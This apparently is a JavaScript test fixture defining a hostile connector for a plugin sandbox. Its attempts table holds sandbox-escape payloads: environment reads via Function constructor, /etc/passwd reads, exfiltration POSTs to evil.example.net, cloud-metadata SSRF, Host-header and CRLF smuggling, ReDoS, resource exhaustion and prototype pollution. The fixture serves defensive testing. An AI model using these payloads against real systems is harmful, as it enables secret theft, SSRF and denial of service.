// A connector that tries what it must not be able to do; `settings.act` says what. The tests wrap it as a bundle.
const attempts = {
  environment: () => process.env,
  environmentByConstructor: () => (() => {}).constructor.constructor('return process')().env,
  files: () => import('node:fs').then((fs) => fs.readFileSync('/etc/passwd', 'utf8')),
  require: () => require('node:fs'),
  fork: () => import('node:child_process').then((child) => child.fork('x')),
  threads: () => new Worker('x'),
  fetch: () => fetch('https://evil.example.net'),
  socket: () => new WebSocket('wss://evil.example.net'),
  wasm: () => WebAssembly.compile(new Uint8Array([0])),
  metadata: ({ http }) => http.request({ url: 'http://169.254.169.254/latest/meta-data/' }),
  metadataByNumber: ({ http }) => http.request({ url: 'http://2852039166/latest/meta-data/' }),
  otherHost: ({ http }) => http.request({ url: 'https://evil.example.net/', json: { stolen: 1 }, method: 'POST' }),
  otherHostByUser: ({ http }) => http.request({ url: 'https://api.example.com@evil.example.net/' }),
  otherHostByHeader: ({ http }) => http.request({ url: '/', headers: { Host: 'evil.example.net' } }),
  smuggle: ({ http }) => http.request({ url: '/', headers: { 'x-a': 'b\r\nhost: evil.example.net' } }),
  file: ({ http }) => http.request({ url: 'file:///etc/passwd' }),
  ownToken: ({ http }) =>
    http.request({ url: '/echo' }).then((answer) => JSON.stringify([answer.body, answer.headers, answer.url])),
  otherToken: (turn) => JSON.stringify([Object.keys(globalThis), turn, globalThis.seen]),
  unknownOp: ({ http }) => http.request({ url: '/', secrets: true }),
  loop: () => {
    for (;;);
  },
  microtasks: () =>
    new Promise(() => {
      const again = () => Promise.resolve().then(again)
      again()
    }),
  regex: () => /^(a+)+$/.test(`${'a'.repeat(60)}!`),
  // As much as an honest connector may do with a large page.
  work: () => {
    let sum = 0
    for (let n = 0; n < 1_000_000; n++) sum += n % 7
    return sum
  },
  wait: () => new Promise(() => {}),
  memory: () => {
    const all = []
    for (;;) all.push(new Uint8Array(1_000_000))
  },
  recursion: () => {
    const down = () => down() + 1
    return down()
  },
  bigAnswer: () => 'x'.repeat(9_000_000),
  requests: async ({ http }) => {
    for (;;) await http.request({ url: '/' })
  },
  prototype: () => {
    Object.prototype.polluted = 'yes'
    Array.prototype.map = () => ['stolen']
    JSON.stringify = () => '{"value":{"found":"forged"}}'
    return 'tried'
  },
  remember: (turn) => {
    globalThis.seen = turn.settings
    return 'remembered'
  },
}

export const hostile = {
  network: 'hostile',
  label: 'Hostile',
  settings: { type: 'object', properties: { act: { type: 'string' } }, required: ['act'] },
  hosts: ['api.example.com'],
  auth: { kind: 'bearer' },
  limits: [{ per: 'account', requests: 100000, everyMs: 60000 }],
  card: {
    documentation: { url: 'https://example.com' },
    keywordSearch: { allowed: false, of: 'nothing' },
    freshnessMs: 60000,
    rateLimit: 'none',
    deletion: { duty: 'none' },
    export: 'all',
    replies: { allowed: false, terms: 'none' },
    verified: 'recorded',
  },
  test: async (turn) => ({ found: String(await attempts[turn.settings.act](turn)) }),
  async *channel() {
    const item = { id: 1 }
    const evil = JSON.parse('{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}}}')
    yield { items: [item, evil, null, 'text'], cursor: '1' }
  },
  normalise: (item) =>
    item?.act
      ? attempts[item.act]()
      : item?.id
        ? {
            kind: 'post',
            post: { ...JSON.parse('{"__proto__":{"polluted":"yes"}}'), id: '1', network: 'bluesky', text: 'x' },
          }
        : { kind: 'nonsense' },
}
